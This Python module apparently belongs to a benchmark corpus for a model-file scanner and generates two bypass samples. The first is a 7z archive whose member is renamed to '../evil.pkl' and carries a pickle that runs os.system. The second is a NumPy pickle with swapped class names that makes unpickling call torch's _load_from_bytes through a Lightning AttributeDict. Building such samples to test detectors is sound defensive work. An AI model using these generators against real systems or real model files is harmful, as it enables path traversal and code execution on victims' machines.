"""Samples for bypasses found in 2026-12-05's sessions: a 7z member named out of the archive, and
a Lightning `AttributeDict` hidden in a list that NumPy's coercion reaches.

The 7z sample is written by py7zr (the `7z` extra) and renamed afterwards, as a hostile tool
would (py7zr refuses to write `../` names). The `AttributeDict` sample is a real NumPy
`MaskedArray` pickled by `pickle.dumps`, with stand-ins for the two names this module cannot
import (Lightning's class, torch's nested loader) swapped in afterwards: protocol 2's `GLOBAL`
opcode is a text line, so a name swaps for another without moving anything else.
"""

from __future__ import annotations

import io
import pickle
import struct
import zlib
from pathlib import Path

import numpy

from benchmarks.corpus import technique
from benchmarks.corpus.pickleasm import shell_call

TRAVERSAL = "ARCHIVE-PATH-TRAVERSAL"
STATE_CALL = "PICKLE-STATE-CALL"


@technique("7z-member-traversal", family="archive", filename="model.7z", expect=TRAVERSAL)
def seven_zip_traversal(m: Path) -> bytes:
    """A 7z member named ../evil.pkl holding a payload: extracting writes outside the folder."""
    import py7zr

    buffer = io.BytesIO()
    with py7zr.SevenZipFile(buffer, "w") as archive:
        archive.set_encoded_header_mode(False)  # names stay in the clear, to be swapped
        archive.writestr(shell_call("os", "system", m), "xx/evil.pkl")
    raw = bytearray(buffer.getvalue())
    before, after = "xx/evil.pkl".encode("utf-16-le"), "../evil.pkl".encode("utf-16-le")
    at = raw.find(before)
    raw[at : at + len(before)] = after
    offset, size = struct.unpack_from("<QQ", raw, 12)
    struct.pack_into("<I", raw, 28, zlib.crc32(raw[32 + offset : 32 + offset + size]))
    struct.pack_into("<I", raw, 8, zlib.crc32(raw[12:32]))
    return bytes(raw)


class _StandInAttributeDict(dict):  # type: ignore[type-arg]
    """Pickles as an AttributeDict does: NEWOBJ, then SETITEMS, no BUILD."""


def _stand_in_loader() -> None:
    """Stands for torch.storage._load_from_bytes in the pickle (never called)."""


def _swap(data: bytes, stand_in: object, module: str, name: str) -> bytes:
    old = f"c{__name__}\n{stand_in.__qualname__}\n".encode()  # type: ignore[attr-defined]
    assert data.count(old) == 1
    return data.replace(old, f"c{module}\n{name}\n".encode())


@technique(
    "attribute-dict-in-list-numpy-call",
    family="pickle",
    filename="model.pkl",
    expect=STATE_CALL,
)
def attribute_dict_in_list(m: Path) -> bytes:
    """A MaskedArray whose fill_value is [AttributeDict(__array__=_load_from_bytes)]: BUILD
    coerces it, and NumPy calls the item `__array__` (the pickle's callable)."""
    array = numpy.ma.masked_array(numpy.zeros(1, dtype=object))
    array._fill_value = [_StandInAttributeDict(__array__=_stand_in_loader)]
    data = pickle.dumps(array, protocol=2)
    lightning = "lightning.pytorch.utilities.parsing"
    data = _swap(data, _StandInAttributeDict, lightning, "AttributeDict")
    return _swap(data, _stand_in_loader, "torch.storage", "_load_from_bytes")
